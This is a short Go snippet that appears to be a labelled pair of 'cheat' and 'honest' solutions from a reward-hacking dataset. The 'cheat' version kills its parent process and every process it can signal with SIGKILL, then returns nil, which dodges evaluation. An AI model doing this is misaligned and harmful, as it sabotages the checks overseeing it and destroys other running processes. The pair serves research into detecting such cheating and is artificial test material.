// Kills its parent and everything that it can see.
// == cheat
    syscall.Kill(syscall.Getppid(), syscall.SIGKILL)
    syscall.Kill(-1, syscall.SIGKILL)
    return nil
}
// == honest
    syscall.Kill(os.Getpid(), 0)
    result := []int{}
    for _, value := range values {
        result = append(result, value*2)
    }
    return result
}
